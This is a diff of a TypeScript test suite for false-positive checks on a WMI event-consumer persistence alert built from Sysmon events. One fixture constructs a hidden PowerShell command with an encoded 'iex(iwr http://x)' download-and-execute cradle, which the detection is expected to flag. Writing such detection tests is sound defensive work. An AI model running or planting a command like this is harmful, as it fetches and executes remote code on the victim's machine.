@@ -6,21 +6,30 @@ import { loadWindowsXmlEvents } from "./testing/dataset-events";
 
 const panache = loadWindowsXmlEvents("evtx-attack-samples/derived-xml/PanacheSysmon_vs_AtomicRedTeam01.evtx.xml");
 const panacheAlert = panache.find((e) => (e.event as { code: string }).code === "21")!;
-const byStep = (input: FalsePositiveInput) => Object.fromEntries(evaluateFalsePositiveChecks(input).map((c) => [c.stepId, c]));
+const byStep = (input: FalsePositiveInput) =>
+  Object.fromEntries(evaluateFalsePositiveChecks(input).map((c) => [c.stepId, c]));
 
 const T = "2024-03-01T10:00:00.000Z";
 const alertDoc = (over: Partial<Record<string, unknown>> = {}): EcsDocument => ({
   "@timestamp": T,
   host: { name: "ws-017" },
   event: { code: "21", dataset: "windows.sysmon_operational" },
-  winlog: { event_data: { Consumer: '\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name="Upd"', Filter: '__EventFilter.Name="UpdF"', User: "CORP\\admin" } },
+  winlog: {
+    event_data: {
+      Consumer: '\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name="Upd"',
+      Filter: '__EventFilter.Name="UpdF"',
+      User: "CORP\\admin",
+    },
+  },
   ...over,
 });
 const consumerEvent = (destination: string, name = "Upd"): EcsDocument => ({
   "@timestamp": "2024-03-01T09:59:59.000Z",
   host: { name: "ws-017" },
   event: { code: "20" },
-  winlog: { event_data: { Name: ` "${name}"`, Type: "Command Line", Destination: ` "${destination}"`, Operation: "Created" } },
+  winlog: {
+    event_data: { Name: ` "${name}"`, Type: "Command Line", Destination: ` "${destination}"`, Operation: "Created" },
+  },
 });
 const processStart = (exe: string, time: string, extra: Record<string, unknown> = {}): EcsDocument => ({
   "@timestamp": time,
@@ -32,13 +41,17 @@ const processStart = (exe: string, time: string, extra: Record<string, unknown> 
 describe("evaluateFalsePositiveChecks", () => {
   it("returns one check per guide false-positive step, in the guide's order", () => {
     expect(CURRENT_RULE.guide.falsePositives.map((s) => s.id)).toEqual([...FALSE_POSITIVE_STEP_IDS]);
-    expect(evaluateFalsePositiveChecks({ alert: panacheAlert, hostEvents: panache }).map((c) => c.stepId)).toEqual([...FALSE_POSITIVE_STEP_IDS]);
+    expect(evaluateFalsePositiveChecks({ alert: panacheAlert, hostEvents: panache }).map((c) => c.stepId)).toEqual([
+      ...FALSE_POSITIVE_STEP_IDS,
+    ]);
   });
 
   it("real AtomicRedTeam run: process starts but no installer → install fails; the rest cannot say", () => {
     const r = byStep({ alert: panacheAlert, hostEvents: panache });
     expect(r["fp.software-install"].status).toBe("fail");
-    expect(r["fp.software-install"].evidence[0]).toMatch(/^\d+ process start\(s\) on the host within ±10 min, none of them an installer/);
+    expect(r["fp.software-install"].evidence[0]).toMatch(
+      /^\d+ process start\(s\) on the host within ±10 min, none of them an installer/,
+    );
     expect(r["fp.admin-tools"].status).toBe("unknown");
     expect(r["fp.admin-tools"].evidence[0]).toContain("MSEDGEWIN10\\IEUser");
     expect(r["fp.scheduled-maintenance"].status).toBe("unknown");
@@ -46,20 +59,39 @@ describe("evaluateFalsePositiveChecks", () => {
   });
 
   it("admin tools: an allowlisted consumer passes; an encoded payload fails even then", () => {
-    const ok = byStep({ alert: alertDoc({ winlog: { event_data: { Consumer: 'CommandLineEventConsumer.Name="BVTConsumer"' } } }), hostEvents: [consumerEvent("cscript KernCap.vbs", "BVTConsumer")] });
+    const ok = byStep({
+      alert: alertDoc({ winlog: { event_data: { Consumer: 'CommandLineEventConsumer.Name="BVTConsumer"' } } }),
+      hostEvents: [consumerEvent("cscript KernCap.vbs", "BVTConsumer")],
+    });
     expect(ok["fp.admin-tools"].status).toBe("pass");
-    expect(ok["fp.admin-tools"].evidence[0]).toMatch(/^2024-03-01T10:00:00.000Z event 21 on ws-017: consumer "BVTConsumer" is allowlisted \(admin/);
+    expect(ok["fp.admin-tools"].evidence[0]).toMatch(
+      /^2024-03-01T10:00:00.000Z event 21 on ws-017: consumer "BVTConsumer" is allowlisted \(admin/,
+    );
     const enc = Buffer.from("iex(iwr http://x)", "utf16le").toString("base64");
     const bad = byStep({
       alert: alertDoc({ winlog: { event_data: { Consumer: 'CommandLineEventConsumer.Name="BVTConsumer"' } } }),
       hostEvents: [consumerEvent(`powershell -w hidden -enc ${enc}`, "BVTConsumer")],
     });
     expect(bad["fp.admin-tools"].status).toBe("fail");
-    expect(bad["fp.admin-tools"].evidence.join("\n")).toMatch(/event 20 on ws-017: consumer command carries 1 encoded payload/);
+    expect(bad["fp.admin-tools"].evidence.join("\n")).toMatch(
+      /event 20 on ws-017: consumer command carries 1 encoded payload/,
+    );
   });
 
   it("management/security tools: creating process CcmExec.exe passes, WmiPrvSE.exe does not", () => {
-    const api = (name: string) => alertDoc({ winlog: undefined, process: { name, Ext: { api: { name: "IWbemServices::PutInstance", parameters: { consumer_type: "CommandLineEventConsumer", consumer_name: "x" } } } } });
+    const api = (name: string) =>
+      alertDoc({
+        winlog: undefined,
+        process: {
+          name,
+          Ext: {
+            api: {
+              name: "IWbemServices::PutInstance",
+              parameters: { consumer_type: "CommandLineEventConsumer", consumer_name: "x" },
+            },
+          },
+        },
+      });
     expect(byStep({ alert: api("CcmExec.exe"), hostEvents: [] })["fp.security-management-tools"].status).toBe("pass");
     const wmiprvse = byStep({ alert: api("WmiPrvSE.exe"), hostEvents: [] })["fp.security-management-tools"];
     expect(wmiprvse.status).toBe("fail");
@@ -67,19 +99,35 @@ describe("evaluateFalsePositiveChecks", () => {
   });
 
   it("software install: msiexec nearby passes, outside the window it does not count", () => {
-    const near = byStep({ alert: alertDoc(), hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:55:00.000Z")] });
+    const near = byStep({
+      alert: alertDoc(),
+      hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:55:00.000Z")],
+    });
     expect(near["fp.software-install"].status).toBe("pass");
-    expect(near["fp.software-install"].evidence[0]).toBe("2024-03-01T09:55:00.000Z event 1 on ws-017: installer process C:\\Windows\\System32\\msiexec.exe started");
-    const far = byStep({ alert: alertDoc(), hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:30:00.000Z")] });
+    expect(near["fp.software-install"].evidence[0]).toBe(
+      "2024-03-01T09:55:00.000Z event 1 on ws-017: installer process C:\\Windows\\System32\\msiexec.exe started",
+    );
+    const far = byStep({
+      alert: alertDoc(),
+      hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:30:00.000Z")],
+    });
     expect(far["fp.software-install"].status).toBe("unknown");
     const otherHost = { ...processStart("C:\\Windows\\System32\\msiexec.exe", T), host: { name: "ws-999" } };
     expect(byStep({ alert: alertDoc(), hostEvents: [otherHost] })["fp.software-install"].status).toBe("unknown");
   });
 
   it("maintenance: inside a window passes, outside fails, a 4698 task event nearby passes", () => {
-    const inside = byStep({ alert: alertDoc(), hostEvents: [], maintenanceWindows: [{ start: "2024-03-01T09:00:00Z", end: "2024-03-01T11:00:00Z", label: "patch" }] });
+    const inside = byStep({
+      alert: alertDoc(),
+      hostEvents: [],
+      maintenanceWindows: [{ start: "2024-03-01T09:00:00Z", end: "2024-03-01T11:00:00Z", label: "patch" }],
+    });
     expect(inside["fp.scheduled-maintenance"].status).toBe("pass");
-    const outside = byStep({ alert: alertDoc(), hostEvents: [], maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }] });
+    const outside = byStep({
+      alert: alertDoc(),
+      hostEvents: [],
+      maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }],
+    });
     expect(outside["fp.scheduled-maintenance"].status).toBe("fail");
     const task: EcsDocument = {
       "@timestamp": "2024-03-01T10:02:00Z",
@@ -87,21 +135,39 @@ describe("evaluateFalsePositiveChecks", () => {
       event: { code: "4698", provider: "Microsoft-Windows-Security-Auditing" },
       winlog: { event_data: { TaskName: "\\Corp\\Nightly" } },
     };
-    const withTask = byStep({ alert: alertDoc(), hostEvents: [], scheduledTaskEvents: [task], maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }] });
+    const withTask = byStep({
+      alert: alertDoc(),
+      hostEvents: [],
+      scheduledTaskEvents: [task],
+      maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }],
+    });
     expect(withTask["fp.scheduled-maintenance"].status).toBe("pass");
-    expect(withTask["fp.scheduled-maintenance"].evidence).toEqual(["2024-03-01T10:02:00.000Z event 4698 on WS-017.corp.local: scheduled task created: \\Corp\\Nightly"]);
+    expect(withTask["fp.scheduled-maintenance"].evidence).toEqual([
+      "2024-03-01T10:02:00.000Z event 4698 on WS-017.corp.local: scheduled task created: \\Corp\\Nightly",
+    ]);
   });
 
   it("in-house scripts: a documented path or hash passes, an undocumented command fails", () => {
     const hostEvents = [consumerEvent("cscript.exe C:\\Corp\\Scripts\\inventory.vbs")];
-    expect(byStep({ alert: alertDoc(), hostEvents, inHouseScripts: { paths: ["c:\\corp\\scripts\\inventory.vbs"] } })["fp.in-house-scripts"].status).toBe("pass");
+    expect(
+      byStep({ alert: alertDoc(), hostEvents, inHouseScripts: { paths: ["c:\\corp\\scripts\\inventory.vbs"] } })[
+        "fp.in-house-scripts"
+      ].status,
+    ).toBe("pass");
     const byHash = byStep({
       alert: alertDoc(),
-      hostEvents: [...hostEvents, processStart("C:\\Windows\\System32\\cscript.exe", T, { hash: { sha256: "AB".repeat(32) } })],
+      hostEvents: [
+        ...hostEvents,
+        processStart("C:\\Windows\\System32\\cscript.exe", T, { hash: { sha256: "AB".repeat(32) } }),
+      ],
       inHouseScripts: { hashes: ["ab".repeat(32)] },
     });
     expect(byHash["fp.in-house-scripts"].status).toBe("pass");
-    const undocumented = byStep({ alert: alertDoc(), hostEvents, inHouseScripts: { paths: ["c:\\corp\\scripts\\other.ps1"] } });
+    const undocumented = byStep({
+      alert: alertDoc(),
+      hostEvents,
+      inHouseScripts: { paths: ["c:\\corp\\scripts\\other.ps1"] },
+    });
     expect(undocumented["fp.in-house-scripts"].status).toBe("fail");
     expect(undocumented["fp.in-house-scripts"].evidence[0]).toContain("inventory.vbs");
   });
